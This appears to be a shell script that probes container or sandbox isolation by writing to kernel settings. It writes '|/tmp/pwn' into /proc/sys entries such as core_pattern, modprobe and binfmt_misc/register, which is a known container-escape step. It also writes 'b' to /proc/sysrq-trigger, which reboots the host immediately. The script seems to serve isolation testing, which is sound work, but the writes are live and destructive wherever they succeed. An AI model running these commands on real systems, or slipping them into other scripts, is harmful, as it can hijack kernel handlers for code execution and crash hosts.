# Writes to the settings of the kernel.
for file in kernel/core_pattern kernel/modprobe kernel/hostname vm/overcommit_memory kernel/randomize_va_space \
  net/ipv4/ip_forward fs/binfmt_misc/register; do
  if { echo '|/tmp/pwn' >"/proc/sys/$file"; } 2>/dev/null; then echo "ESCAPED: $file"; fi
done
for file in /proc/sysrq-trigger /sys/kernel/uevent_helper /sys/power/state /sys/kernel/mm/transparent_hugepage/enabled; do
  if { echo b >$file; } 2>/dev/null; then echo "ESCAPED: $file"; fi
done
